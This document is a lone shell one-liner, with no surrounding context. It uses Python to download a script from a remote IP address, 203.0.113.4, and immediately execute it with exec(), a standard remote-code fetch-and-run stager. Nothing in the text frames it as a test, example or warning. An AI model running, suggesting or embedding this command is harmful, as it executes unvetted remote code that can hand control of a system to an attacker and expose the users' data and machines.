python3 -c "import urllib.request as u; exec(u.urlopen('http://203.0.113.4/x').read())"
